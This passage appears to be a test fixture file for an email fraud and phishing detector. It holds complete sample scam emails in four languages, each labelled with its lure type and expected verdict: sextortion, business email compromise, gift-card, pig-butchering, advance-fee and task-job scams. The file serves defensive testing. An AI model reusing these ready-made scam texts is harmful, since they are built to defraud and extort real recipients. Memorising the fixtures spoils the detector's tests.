        { small: 'EuroMillions International Promotions, Madrid.' },
      ]),
    }),
  },
  {
    name: 'Crypto recovery firm "we traced your lost funds, pay the release fee" from a throw-away domain',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud'],
    raw: mail({
      from: 'Asset Recovery Desk <casemanager@chainrecover-legal.com>',
      to: 'g.patterson@gmail.com',
      subject: 'Case #CR-44120: your lost funds have been traced',
      date: 'Mon, 14 Apr 2025 15:06:29 +0000',
      messageId: '20250414150629.3d7a@chainrecover-legal.com',
      dkim: ['chainrecover-legal.com:default'],
      relay: 'mail.chainrecover-legal.com [203.0.113.242]',
      auth: THROWAWAY,
      body: document([
        'Dear Mr. Patterson,',
        'Following your report, our blockchain forensics team has traced the 3.2 BTC you lost to the fraudulent trading platform to a wallet that has now been frozen in cooperation with the exchange.',
        'To release the funds to your wallet, a one-time compliance and release fee of $2,400 (payable in USDT) is required. Funds will be credited within 24 hours of payment.',
        { button: 'View case and pay release fee', href: 'https://chainrecover-legal.com/case/CR-44120' },
        { small: 'ChainRecover Legal Services. Licensed asset recovery.' },
      ]),
    }),
  },
  {
    // Task scam: "rate products for $300/day", move to WhatsApp.
    name: 'Task job "earn $300 a day rating products, message our HR on WhatsApp" from Gmail',
    lang: 'en',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Emily Carter | HR <emilycarter.hr.recruit@gmail.com>',
      to: 'jordan.wells22@yahoo.com',
      subject: 'Remote part-time position – flexible hours – $300/day',
      date: 'Wed, 7 May 2025 17:44:12 +0000',
      messageId: 'CAM2pN8xV4mR7tK1wQ9bL3cF6dH5sY0a_rK3pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Hello,\n\nI am Emily from the HR team of Optimize Digital Marketing. We got your contact from an online job board. We are hiring remote part-time staff to help merchants boost product ratings on online stores.\n\n- Work 60-90 minutes a day from your phone\n- Earn $200-$500 per day, paid daily\n- No experience needed, free training\n\nIf you are interested, please contact our manager on WhatsApp: +1 (347) 555-0186 or click https://wa.me/13475550186\n\nYou must be at least 23 years old.\n\nBest regards,\nEmily Carter',
      ),
    }),
  },
  {
    // Sextortion from the recipient's own address (spoofed), bitcoin address and deadline.
    name: 'Sextortion "I recorded you, pay $1,450 in Bitcoin within 48 hours" spoofed from the recipient\'s own address',
    lang: 'en',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: mail({
      from: 'kevin.doyle@comcast.net',
      to: 'kevin.doyle@comcast.net',
      subject: 'Payment overdue: kevin.doyle',
      date: 'Thu, 22 May 2025 02:17:55 +0000',
      messageId: '20250522021755.7b4e@ip-203-0-113-9.static.example-isp.net',
      returnPath: 'kevin.doyle@comcast.net',
      relay: 'ip-203-0-113-9.static.example-isp.net [203.0.113.9]',
      auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
      body: plain(
        'Hi kevin.doyle,\n\nI have to share bad news with you. A few months ago I gained access to your devices through a malware on an adult website you visited. Since then I have been watching you.\n\nI recorded a video of you while you were watching those videos, with your camera on, and I have all your contacts and social media.\n\nIf you want me to delete everything, send $1450 in Bitcoin to this address:\n\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours after opening this email. I can see when you read it. If I do not receive the payment, the video goes to all your contacts.\n\nDo not reply, this mailbox is not monitored.',
      ),
    }),
  },
  {
    // BEC: a look-alike of a real supplier's domain announces new bank details.
    name: 'BEC "we have changed banks, update our remittance details" from a supplier look-alike domain',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Rachel Dunn <rachel.dunn@northgate-supply.com>',
      to: 'ap@harwoodlogistics.com',
      subject: 'Updated banking details - Northgate Supply Co.',
      date: 'Mon, 2 Jun 2025 10:14:51 -0500',
      messageId: '9a8b7c6d5e4f4a3b@northgate-supply.com',
      dkim: ['northgate-supply.com:default'],
      relay: 'mail.northgate-supply.com [203.0.113.135]',
      auth: THROWAWAY,
      body: plain(
        'Good morning,\n\nPlease be advised that due to our annual audit we have changed our banking institution. Effective immediately, all outstanding and future payments should be made to our new account below:\n\nBank: First Horizon Bank\nAccount name: Northgate Supply Co\nRouting number: 084000026\nAccount number: 4471 0932 8812\n\nPlease do not send any payment to the old account as it is currently under review. Kindly confirm once you have updated your records and let me know the expected date for the open invoices (INV-20931, INV-20977).\n\nThank you,\nRachel Dunn\nAccounts Receivable\nNorthgate Supply Co.',
      ),
    }),
  },
  {
    // CEO gift-card fraud: display name of the CEO, a Gmail address, "are you available?".
    name: 'CEO gift cards from Gmail: "are you available? need 6 Apple gift cards for clients, keep it discreet"',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Daniel Harwood <dharwood.ceo.office@gmail.com>',
      to: 'Megan Price <m.price@harwoodlogistics.com>',
      subject: 'Quick task',
      date: 'Fri, 13 Jun 2025 14:02:37 +0000',
      messageId: 'CAH7pN2xV4mR8tK1wQ9bL3cF6dH5sY0a_cV2pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Hi Megan,\n\nAre you available? I'm in a meeting with clients and can't talk on the phone. I need you to get 6 Apple gift cards of $200 each for some of our clients, it's a surprise so keep it discreet.\n\nScratch the back, take clear pictures of the codes and email them to me. I will reimburse you today.\n\nThanks,\nDaniel\n\nSent from my iPhone",
      ),
    }),
  },
  {
    // PayPal's own invoice service abused: the note carries the fake charge and a phone number.
    name: 'PayPal invoice sent through PayPal itself: the note says "not you? call +1 (888) 555-0177"',
    lang: 'en',
    lure: 'payment-app',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'service@paypal.com',
      to: 'rebecca.long@gmail.com',
      subject: "You've got a money request from Billing Department",
      date: 'Tue, 24 Jun 2025 19:30:48 -0700',
      messageId: 'E1:d41c9f2b7a8e0-3b6f-11f0-a1c2-3cfdfe0c9b20@paypal.com',
      dkim: ['paypal.com:pp-dkim1'],
      returnPath: 'service@paypal.com',
      relay: 'mx0.slc.paypal.com [173.0.84.225]',
      body: document([
        { heading: 'Billing Department sent you a money request for $599.99 USD' },
        {
          rows: [
            ['Amount requested', '$599.99 USD'],
            [
              'Note from Billing Department',
              'Your PayPal account was charged $599.99 for a Bitcoin purchase. If you did not authorize this, call PayPal Support +1 (888) 555-0177 immediately to cancel.',
            ],
          ],
        },
        { button: 'Pay Now', href: 'https://www.paypal.com/myaccount/transfer/requests/5HK28812WX447310M' },
        { small: 'PayPal is committed to preventing fraudulent emails. Copyright © 1999-2025 PayPal, Inc. All rights reserved.' },
      ]),
    }),
  },
  {
    // Pig butchering: a "wrong number" opener that moves to a crypto trading platform.
    name: 'Pig-butchering "sorry, wrong address… my uncle\'s AI trading platform made me 40%" from Gmail',
    lang: 'en',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Vivian Chen <vivian.chen.lux@gmail.com>',
      to: 'richard.moss1961@gmail.com',
      subject: 'Re: dinner on Friday?',
      date: 'Sun, 6 Jul 2025 03:21:09 +0000',
      messageId: 'CAJ9pN2xV4mR7tK1wQ8bL3cF6dH5sY0a_vC4pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Hi Richard, thank you for telling me I had the wrong email, you are very kind 😊 Most people would just ignore.\n\nI live in Seattle, I work in fashion import and in my free time I do crypto trading with my uncle, he is an analyst at a big fund. Last month we made 40% with an AI quantitative strategy on this platform: https://quantix-ai-trade.com\n\nIf you want I can teach you, it is very simple and you can start with $1,000. Can we talk on WhatsApp? My number is +1 (206) 555-0149.\n\nVivian',
      ),
    }),
  },
  {
    // German BEC: a forged "forwarded" letter from the supplier's management announcing a new IBAN.
    name: 'BEC "WG: Neue Bankverbindung ab 01.07." with a forged forwarded letter, supplier look-alike domain',
    lang: 'de',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Andrea Keller <a.keller@mueller-stahlbau-gmbh.de>',
      to: 'buchhaltung@brandt-elektrotechnik.de',
      subject: 'WG: Neue Bankverbindung ab 01.07.2025',
      date: 'Wed, 25 Jun 2025 10:44:08 +0200',
      messageId: '7b8c9d0e1f2a4b3c@mueller-stahlbau-gmbh.de',
      dkim: ['mueller-stahlbau-gmbh.de:default'],
      relay: 'mail.mueller-stahlbau-gmbh.de [203.0.113.149]',
      auth: THROWAWAY,
      body: plain(
        'Sehr geehrte Damen und Herren,\n\nanbei zur Info das Schreiben unserer Geschäftsführung. Bitte überweisen Sie die offenen Rechnungen RE-2025-0412 und RE-2025-0437 (gesamt 18.460,00 EUR) ab sofort auf das neue Konto und bestätigen Sie mir kurz die Änderung.\n\nMit freundlichen Grüßen\nAndrea Keller\nBuchhaltung\nMüller Stahlbau GmbH\n\n---------- Weitergeleitete Nachricht ----------\nVon: Geschäftsführung Müller Stahlbau GmbH\nDatum: 24.06.2025\nBetreff: Neue Bankverbindung\n\nAufgrund einer internen Umstellung ändert sich unsere Bankverbindung ab dem 01.07.2025:\n\nKontoinhaber: Mueller Stahlbau GmbH\nIBAN: LT12 3250 0241 9988 1207\nBIC: REVOLT21\n\nDie bisherige Verbindung bei der Sparkasse wird nicht mehr verwendet. Zahlungen auf das alte Konto können nicht mehr zugeordnet werden.\n\nGeschäftsführung',
      ),
    }),
  },
  {
    name: 'German sextortion "ich habe Ihr Gerät gehackt, 1.200 € in Bitcoin" from a throw-away address',
    lang: 'de',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: mail({
      from: 'Support <noreply@kontakt-sicherheit24.net>',
      to: 'm.schulz@gmx.de',
      subject: 'Ich kenne Ihr Geheimnis',
      date: 'Sat, 12 Jul 2025 23:05:41 +0200',
      messageId: '20250712210541.2c9e@kontakt-sicherheit24.net',
      dkim: ['kontakt-sicherheit24.net:default'],
      relay: 'mail.kontakt-sicherheit24.net [203.0.113.166]',
      auth: THROWAWAY,
      body: plain(
        'Hallo,\n\nich bin Hacker und habe vor einigen Monaten Zugriff auf Ihr Gerät erhalten. Ich habe Sie über Ihre Kamera aufgenommen, während Sie Erwachsenen-Webseiten besucht haben, und habe Zugriff auf alle Ihre Kontakte.\n\nWenn Sie nicht wollen, dass ich dieses Video an Ihre Familie, Freunde und Kollegen schicke, überweisen Sie 1.200 € in Bitcoin an folgende Adresse:\n\nbc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6axemvljvt2k76zs50tv4q\n\nSie haben 48 Stunden Zeit. Ich sehe, wann Sie diese E-Mail geöffnet haben. Antworten Sie nicht auf diese E-Mail.',
      ),
    }),
  },
  {
    // "Arnaque au président": the chairman's display name on a free mailbox, urgent confidential transfer.
    name: 'Arnaque au président: "virement urgent et confidentiel pour une acquisition" from a free mailbox',
    lang: 'fr',
    lure: 'bec',
    expect: ['fraud'],
    raw: mail({
      from: 'Philippe Marchand <p.marchand.direction@outlook.fr>',
      to: 'Sandrine Lopez <s.lopez@marchand-industries.fr>',
      subject: 'Dossier confidentiel',
      date: 'Thu, 17 Jul 2025 11:26:53 +0200',
      messageId: 'PR3P195MB0811A2B3C4D5E6F7A8B9C0D1E2F3A4B5@PR3P195MB0811.EURP195.PROD.OUTLOOK.COM',
      ...OUTLOOK,
      body: plain(
        "Bonjour Sandrine,\n\nJe suis actuellement en déplacement et je vous écris depuis ma boîte personnelle. Nous finalisons une acquisition stratégique à l'étranger et j'ai besoin de votre entière discrétion : personne d'autre ne doit être informé avant l'annonce officielle, y compris au sein de la direction financière.\n\nJe vais avoir besoin que vous effectuiez aujourd'hui un virement de 86 400 € vers le compte du cabinet d'avocats qui nous accompagne. Me Laurent vous contactera pour les coordonnées bancaires.\n\nPouvez-vous me confirmer votre disponibilité ? Je ne suis pas joignable par téléphone pour le moment.\n\nCordialement,\nPhilippe Marchand\nPrésident Directeur Général",
      ),
    }),
  },
  {
    name: 'Héritage "veuve malade souhaite vous léguer 1 500 000 €" from a Gmail address',
    lang: 'fr',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Mme Isabelle Renaud <isabelle.renaud.donation@gmail.com>',
      to: 'gerard.petit@wanadoo.fr',
      subject: 'Don de 1 500 000 € à votre nom',
      date: 'Mon, 4 Aug 2025 08:19:02 +0000',
      messageId: 'CAK1pN8xV4mR7tK2wQ9bL3cF6dH5sY0a_iR5pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Bonjour,\n\nJe suis Mme Isabelle Renaud, veuve de feu M. Jean Renaud, industriel. Je suis atteinte d'un cancer en phase terminale et mon médecin me donne quelques semaines à vivre. Je n'ai pas d'enfant.\n\nJe souhaite faire don de la somme de 1 500 000 € que mon mari a laissée sur un compte bancaire, à une personne honnête qui en fera bon usage pour les orphelins et les personnes démunies.\n\nSi vous acceptez, répondez-moi avec votre nom complet, votre adresse et votre numéro de téléphone afin que mon notaire vous contacte pour les frais de transfert.\n\nQue Dieu vous bénisse,\nMme Isabelle Renaud",
      ),
    }),
  },
  {
    // Dutch task scam: "earn from home liking videos", WhatsApp.
    name: 'Taakfraude "bijverdienen vanuit huis: €150–€400 per dag, neem contact op via WhatsApp" from Gmail',
    lang: 'nl',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Sanne de Vries | Recruitment <sanne.devries.werving@gmail.com>',
      to: 'tim.jansen91@hotmail.nl',
      subject: 'Flexibele bijbaan vanuit huis – dagelijks uitbetaald',
      date: 'Wed, 20 Aug 2025 12:48:33 +0000',
      messageId: 'CAN3pN2xV4mR7tK1wQ9bL8cF6dH5sY0a_sD6pX@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Hallo,\n\nWij zijn op zoek naar mensen die online willen bijverdienen. Je helpt webwinkels door producten te beoordelen en video's te liken. Het kost 30-60 minuten per dag en je verdient €150 tot €400 per dag, dagelijks uitbetaald.\n\nGeen ervaring nodig, alleen een telefoon.\n\nInteresse? Stuur een bericht via WhatsApp naar +31 6 12345678 of klik op https://wa.me/31612345678\n\nMet vriendelijke groet,\nSanne de Vries",
      ),
    }),
  },
];
